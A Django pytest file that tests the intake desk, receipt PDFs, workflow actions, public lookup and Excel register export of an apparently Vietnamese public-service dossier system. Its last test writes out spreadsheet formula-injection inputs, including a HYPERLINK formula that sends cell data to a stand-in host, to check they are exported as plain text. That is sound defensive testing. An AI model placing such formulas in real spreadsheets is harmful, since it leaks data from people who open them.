"""The desk's and the processing officer's pages, through Django's test client."""

import io

import pypdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from motcua.catalog.models import Procedure
from motcua.dossiers.models import Dossier
from motcua.dossiers.rules import Status
from motcua.units.services import unit_on

from .conftest import DAY


@pytest.fixture
def desk_client(people):
    client = Client(headers={"accept-language": "vi"})
    client.force_login(people.desk)
    return client


def intake_post(procedure, **extra):
    data = {
        "procedure": procedure.code,
        "receiving_unit": unit_on("04105.TTPVHCC", DAY).pk,
        "processing_unit": unit_on("04105.PKT", DAY).pk,
        "channel": "1",
        "applicant_name": "Lò Văn Minh",
        "applicant_id": "014090001111",
        "decision": "accept",
    }
    for c in procedure.components.all():
        data[f"provided_{c.order}"] = "on"
    data.update(extra)
    return data


def test_search_finds_procedures_without_diacritics(desk_client):
    page = desk_client.get("/ho-so/tiep-nhan/", {"q": "dang ky dat dai"}).content.decode()
    assert "1.012994" in page


def test_intake_page_accepts_with_a_scan_and_prints_the_receipt(desk_client, land_procedure):
    scan = SimpleUploadedFile("don.pdf", b"%PDF-1.4 scan", content_type="application/pdf")
    response = desk_client.post("/ho-so/tiep-nhan/", {**intake_post(land_procedure), "file_1": scan})
    dossier = Dossier.objects.get()
    assert response.status_code == 302 and response.url == f"/ho-so/{dossier.pk}/?in=01"
    assert dossier.status == Status.ACCEPTED and dossier.components.get(order=1).files.count() == 1
    page = desk_client.get(response.url).content.decode()
    # The receipt to print, on top of the page the desk lands on (and only there).
    link = f'href="/ho-so/{dossier.pk}/mau/01.pdf" target="_blank" rel="noopener">In giấy tiếp nhận (01)</a>'
    assert link in page
    assert "In giấy tiếp nhận (01)" not in desk_client.get(f"/ho-so/{dossier.pk}/").content.decode()
    assert (dossier.code in page and "Chuyển bước tiếp theo" in page) or "forward" in page
    pdf = desk_client.get(f"/ho-so/{dossier.pk}/mau/01.pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    slip = desk_client.get(f"/ho-so/{dossier.pk}/mau/06.pdf")
    assert slip.status_code == 200
    assert desk_client.get(f"/ho-so/{dossier.pk}/mau/04.pdf").status_code == 302  # no apology yet
    stored = dossier.components.get(order=1).files.get()
    assert desk_client.get(f"/ho-so/{dossier.pk}/tep/{stored.pk}/").status_code == 200


def test_intake_errors_keep_the_form_and_store_nothing(desk_client):
    procedure = Procedure.objects.get(code="1.012994")
    data = intake_post(procedure, applicant_id="123")
    response = desk_client.post("/ho-so/tiep-nhan/", data)
    assert response.status_code == 422 and "Lò Văn Minh" in response.content.decode()
    assert Dossier.objects.count() == 0


def test_a_refused_scan_undoes_the_whole_intake(desk_client, land_procedure):
    scan = SimpleUploadedFile("don.pdf", b"MZ not a scan", content_type="application/pdf")
    response = desk_client.post("/ho-so/tiep-nhan/", {**intake_post(land_procedure), "file_1": scan})
    assert response.status_code == 422
    assert Dossier.objects.count() == 0
    desk_client.post("/ho-so/tiep-nhan/", intake_post(land_procedure))
    assert Dossier.objects.get().code.endswith("-0001")  # the number went back too


def test_receipt_text_reads_back_from_the_pdf(desk_client, land_procedure):
    desk_client.post("/ho-so/tiep-nhan/", intake_post(land_procedure))
    dossier = Dossier.objects.get()
    text = pypdf.PdfReader(io.BytesIO(desk_client.get(f"/ho-so/{dossier.pk}/mau/01.pdf").content)).pages[0]
    text = text.extract_text()
    assert dossier.code in text and "Lò Văn Minh" in text and dossier.secret in text


def test_actions_through_the_page_and_the_register(desk_client, people, land_procedure):
    desk_client.post("/ho-so/tiep-nhan/", intake_post(land_procedure))
    dossier = Dossier.objects.get()
    response = desk_client.post(f"/ho-so/{dossier.pk}/thao-tac/forward/", {"version": dossier.version})
    assert response.status_code == 302
    dossier.refresh_from_db()
    assert dossier.current_step == 2
    stale = desk_client.post(f"/ho-so/{dossier.pk}/thao-tac/stop/", {"version": 1, "note": "x"}, follow=True)
    assert "Tải lại" in stale.content.decode() or "Reload" in stale.content.decode()
    other = Client()
    other.force_login(people.other_desk)
    assert other.get(f"/ho-so/{dossier.pk}/").status_code == 404
    assert other.post(f"/ho-so/{dossier.pk}/thao-tac/forward/").status_code == 404
    inbox = desk_client.get("/ho-so/").content.decode()
    assert dossier.code in inbox
    sheet = desk_client.get("/ho-so/so-theo-doi/", {"unit": unit_on("04105", DAY).pk, "format": "xlsx",
                                                     "from": "2020-01-01", "to": "2030-12-31"})  # fmt: skip
    book = load_workbook(io.BytesIO(sheet.content))
    rows = list(book.active.iter_rows(min_row=6, values_only=True))
    assert rows[0][1] == dossier.code and rows[0][4] == "Lò Văn Minh"


def test_public_lookup_page(desk_client, land_procedure):
    desk_client.post("/ho-so/tiep-nhan/", intake_post(land_procedure))
    dossier = Dossier.objects.get()
    page = Client().post("/tra-cuu/", {"code": dossier.code, "secret": dossier.secret})
    assert page.status_code == 200 and dossier.procedure.name in page.content.decode()
    assert Client().post("/tra-cuu/", {"code": dossier.code, "secret": "NOPE"}).status_code == 404


def test_text_typed_by_applicants_stays_text_in_the_register_workbook(desk_client, land_procedure):
    desk_client.post("/ho-so/tiep-nhan/", intake_post(land_procedure))
    typed = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'
    Dossier.objects.update(applicant_name=typed, applicant_address="+84-1+1", reasons="@SUM(1,2)")
    sheet = desk_client.get("/ho-so/so-theo-doi/", {"unit": unit_on("04105", DAY).pk, "format": "xlsx",
                                                     "from": "2020-01-01", "to": "2030-12-31"})  # fmt: skip
    row = next(load_workbook(io.BytesIO(sheet.content)).active.iter_rows(min_row=6))
    assert (row[4].value, row[4].data_type) == (typed, "s")
    assert row[5].value.startswith("+84-1+1") and row[5].data_type == "s"
